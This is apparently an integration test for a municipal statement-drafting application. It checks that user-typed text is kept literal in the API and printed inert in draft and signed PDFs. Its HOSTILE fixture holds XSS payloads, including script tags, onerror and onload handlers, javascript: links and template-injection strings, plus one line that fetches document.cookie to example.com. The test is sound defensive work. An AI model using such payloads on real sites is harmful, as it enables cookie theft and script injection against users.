import { inspectPdf, normalise } from '@app/testing';

import { asBytes } from '../support/files.js';
import { StatementFlow } from '../support/statement-flow.js';
import { statementWorld } from '../support/statement-world.js';
import { TestContext } from '../support/test-context.js';

/** What a person might type that a careless page or PDF would run, follow or interpret. */
const HOSTILE = {
  title: '<script>alert("titel")</script> Trygghet',
  heading: 'Yttrande till <b>kommunstyrelsen</b>',
  decision: "<script>fetch('//example.com/'+document.cookie)</script>",
  summary: '<img src=x onerror=alert(1)> Se <a href="javascript:alert(2)">länken</a>.',
  background: 'Klicka [här](javascript:alert(3)) eller på javascript:alert(4) och data:text/html,<h1>x</h1>',
  views: '<!-- dolt --> &lt;i&gt; &amp; {{constructor.constructor("alert(5)")()}} ${alert(6)}',
  comment: '<iframe src="javascript:alert(7)"></iframe> <svg onload=alert(8)>',
};

describe('text a person types: stored and given back as text, printed inert', () => {
  let ctx: TestContext;

  beforeAll(async () => {
    ctx = await TestContext.create();
  });

  afterAll(() => ctx.close());

  it('keeps <script>, markup-like text and javascript: links as the literal text in the API and the signed PDF', async () => {
    const w = await statementWorld(ctx);
    const flow = new StatementFlow(ctx);
    const started = await flow.start(w);
    const parts = started.revision.parts as { sections: { sectionId: string }[] } & Record<string, unknown>;
    const saved = await flow.save(started, w.officer, {
      title: HOSTILE.title,
      heading: HOSTILE.heading,
      proposedDecision: [HOSTILE.decision, 'Nämnden <u>beslutar</u> som förvaltningen föreslår.'],
      summary: HOSTILE.summary,
      background: HOSTILE.background,
      views: HOSTILE.views,
      sections: parts.sections.map((section) => ({ ...section, comment: HOSTILE.comment })),
    });

    // The API gives back exactly what was written, as JSON strings: nothing escaped, nothing stripped.
    const read = await ctx
      .http()
      .get(`/api/v1/statements/${saved.id}`)
      .set(await ctx.as(w.head))
      .expect(200);
    expect(read.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(read.headers['x-content-type-options']).toBe('nosniff');
    const back = (read.body as { revision: { parts: Record<string, unknown> } }).revision.parts;
    expect(back).toMatchObject({
      title: HOSTILE.title,
      heading: HOSTILE.heading,
      proposedDecision: [HOSTILE.decision, 'Nämnden <u>beslutar</u> som förvaltningen föreslår.'],
      summary: HOSTILE.summary,
      background: HOSTILE.background,
      views: HOSTILE.views,
    });
    expect((back.sections as { comment: string }[]).every((s) => s.comment === HOSTILE.comment)).toBe(true);

    // The printed preview of the draft: the same text, inert, marked UTKAST on every page, unsigned.
    const preview = await ctx
      .http()
      .get(`/api/v1/statements/${saved.id}/revisions/${saved.currentRevision}/preview`)
      .set(await ctx.as(w.head))
      .buffer(true)
      .parse(asBytes)
      .expect(200);
    expect(preview.headers['content-type']).toBe('application/pdf');
    expect(preview.headers['content-disposition']).toMatch(/^inline; filename=/);
    expect(preview.headers['cache-control']).toBe('no-store');
    const draft = inspectPdf(preview.body as Buffer);
    expect(draft.qpdfCheck).toContain('No syntax or stream encoding errors found');
    expect(draft.pages.length).toBeGreaterThan(0);
    for (const page of draft.pages) {
      expect(page).toContain('Tjänsteutlåtande – UTKAST');
    }
    const draftText = normalise(draft.text);
    for (const typed of Object.values(HOSTILE)) {
      expect(draftText).toContain(typed);
    }
    for (const mark of ['/ByteRange', '/Sig', '/JavaScript', '/JS', '/URI', '/Launch', '/OpenAction', '/AA']) {
      expect(draft.raw).not.toContain(mark);
    }
    // A revision that does not exist is not found, and printing a preview registers nothing.
    await ctx
      .http()
      .get(`/api/v1/statements/${saved.id}/revisions/99/preview`)
      .set(await ctx.as(w.head))
      .expect(404);
    const issuedBefore = await ctx
      .http()
      .get('/api/v1/issued-documents')
      .query({ subjectId: saved.id })
      .set(await ctx.as(w.officer))
      .expect(200);
    expect(issuedBefore.body).toEqual([]);

    // Approved in both steps, the tjänsteutlåtande is rendered and signed by the worker.
    const submitted = await flow.act(saved, w.officer, 'submit');
    const approved = await flow.act(await flow.act(submitted, w.head, 'approve'), w.director, 'approve');
    await ctx.drain();
    const list = await ctx
      .http()
      .get('/api/v1/issued-documents')
      .query({ subjectId: approved.id })
      .set(await ctx.as(w.officer))
      .expect(200);
    const report = (list.body as { id: string; kind: string; status: string }[]).find(
      (d) => d.kind === 'official_report',
    )!;
    expect(report.status).toBe('signed');
    const file = await ctx
      .http()
      .get(`/api/v1/issued-documents/${report.id}/file`)
      .set(await ctx.as(w.officer))
      .buffer(true)
      .parse(asBytes)
      .expect(200);
    const pdf = inspectPdf(file.body as Buffer);
    expect(pdf.qpdfCheck).toContain('No syntax or stream encoding errors found');
    const text = normalise(pdf.text);
    for (const typed of Object.values(HOSTILE)) {
      expect(text).toContain(typed);
    }
    // Nothing in the file acts: no script, no link, no action run on opening.
    for (const action of ['/JavaScript', '/JS', '/URI', '/Launch', '/OpenAction', '/AA', '/SubmitForm']) {
      expect(pdf.raw).not.toContain(action);
    }
  });
});
